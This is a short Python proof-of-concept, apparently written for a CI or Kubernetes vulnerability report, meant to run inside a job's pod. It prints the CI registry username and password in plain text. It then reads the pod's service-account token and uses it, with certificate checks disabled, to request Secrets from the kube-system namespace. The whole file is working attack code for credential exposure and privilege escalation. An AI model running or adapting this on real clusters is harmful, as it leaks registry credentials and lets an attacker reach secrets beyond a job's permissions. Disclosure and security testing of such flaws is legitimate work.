"""What the proof's job does in its pod: shows the variables, and tries to read Secrets of another namespace."""

import os
import pathlib
import socket
import ssl
import urllib.error
import urllib.request

print("pod", socket.gethostname())
for name in ("CI_REGISTRY", "CI_REGISTRY_USER", "CI_REGISTRY_PASSWORD"):
    value = os.environ.get(name, "")
    print("variable", name, len(value), value)

token = pathlib.Path("/var/run/secrets/kubernetes.io/serviceaccount/token")
key = token.read_text() if token.exists() else os.environ.get("KUBE_TOKEN", "")
print("token", "there" if key else "none")
url = "https://{KUBERNETES_SERVICE_HOST}:{KUBERNETES_SERVICE_PORT}/api/v1/namespaces/kube-system/secrets"
asked = urllib.request.Request(url.format(**os.environ), headers={"Authorization": "Bearer " + key} if key else {})
context = ssl._create_unverified_context()
try:
    status = urllib.request.urlopen(asked, timeout=20, context=context).status
except urllib.error.HTTPError as e:
    status = e.code
print("secrets", status)
